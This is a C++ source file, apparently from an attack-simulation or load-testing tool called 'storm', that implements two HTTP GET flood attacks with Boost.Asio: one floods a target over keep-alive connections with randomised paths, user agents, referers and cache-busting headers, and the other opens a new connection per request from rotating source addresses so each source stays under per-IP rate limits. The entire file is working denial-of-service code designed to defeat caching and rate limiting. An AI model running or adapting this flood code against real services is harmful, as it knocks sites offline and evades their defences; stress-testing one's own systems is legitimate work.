// http-flood and many-source-flood: GET floods with random URLs, user agents and cache busting.
#include <boost/asio/strand.hpp>
#include <boost/beast/http/field.hpp>

#include "storm/attack.h"
#include "storm/http_client.h"

namespace homeroom::storm {

namespace asio = boost::asio;
namespace http = boost::beast::http;

namespace {

Request FloodRequest(std::mt19937_64& rng) {
  Request req(http::verb::get, RandomPath(rng), 11);
  req.set(http::field::user_agent, RandomUserAgent(rng));
  req.set(http::field::cache_control, "no-cache");
  req.set(http::field::accept, "*/*");
  req.set(http::field::accept_encoding, "gzip, deflate");
  req.set(http::field::referer,
          "http://" + RandomToken(rng, 7) + ".example/" + RandomToken(rng, 5));
  return req;
}

// One keep-alive connection from one source, sending a request per pacer slot.
asio::awaitable<void> KeepAliveWorker(AttackContext& a, uint64_t worker) {
  std::mt19937_64 rng(a.Seed(worker));
  co_await SleepUntil(a.ctx.attack_start);
  auto executor = co_await asio::this_coro::executor;
  HttpConnection conn(executor, a.ctx.config.target, a.Source(worker), a.ctx.budget);
  while (co_await a.pacer.Next()) {
    Request req = FloodRequest(rng);
    Exchange e = co_await conn.Send(std::move(req), a.ctx.ExchangeDeadline());
    Record(a.stats, e);
    if (!e.answered()) a.stats.Count(std::string("conn.") + NetErrorName(e.error));
  }
  conn.Close();
}

// A connection per request, each from the next of many sources: every source stays under a
// per-IP rate of rate / sources.
asio::awaitable<void> ManySourceWorker(AttackContext& a, uint64_t worker,
                                       std::shared_ptr<std::atomic<uint64_t>> next_source) {
  std::mt19937_64 rng(a.Seed(worker));
  co_await SleepUntil(a.ctx.attack_start);
  auto executor = co_await asio::this_coro::executor;
  while (co_await a.pacer.Next()) {
    const uint64_t source = next_source->fetch_add(1, std::memory_order_relaxed);
    HttpConnection conn(executor, a.ctx.config.target, a.Source(source), a.ctx.budget);
    Request req = FloodRequest(rng);
    Exchange e = co_await conn.Send(std::move(req), a.ctx.ExchangeDeadline());
    Record(a.stats, e);
    conn.Close();
  }
}

}  // namespace

void StartHttpFlood(AttackContext& a) {
  for (int i = 0; i < a.spec.connections; ++i) {
    auto worker = KeepAliveWorker(a, static_cast<uint64_t>(i));
    a.ctx.Spawn(asio::make_strand(a.ctx.io), std::move(worker));
  }
}

void StartManySourceFlood(AttackContext& a) {
  auto next_source = std::make_shared<std::atomic<uint64_t>>(0);
  for (int i = 0; i < a.spec.connections; ++i) {
    auto worker = ManySourceWorker(a, static_cast<uint64_t>(i), next_source);
    a.ctx.Spawn(asio::make_strand(a.ctx.io), std::move(worker));
  }
}

}  // namespace homeroom::storm
